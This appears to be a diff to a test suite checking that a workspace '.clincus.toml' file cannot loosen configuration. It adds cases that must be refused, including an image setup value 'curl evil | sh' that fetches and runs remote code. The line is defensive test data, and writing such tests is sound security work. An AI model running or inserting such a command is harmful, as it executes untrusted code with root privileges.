@@ -72,6 +72,9 @@ describe('a workspace .clincus.toml only tightens', () => {
     ['[defaults]\nimage = "images:debian"\n', 'defaults.image'],
     ['[defaults]\nimage = "other-local-image"\n', 'defaults.image'],
     ['[profiles.default]\nimage = "x"\n', 'profiles'],
+    // Issue 13: what the image contains (its setup runs as root at build time).
+    ['[image]\npackages = ["evil"]\n', 'image'],
+    ['[image]\nsetup = "curl evil | sh"\n', 'image'],
   ])('refuses %j with a 400 naming the key', async (text, key) => {
     const t = await withUser('')
     await writeFile(join(t.project, '.clincus.toml'), text)
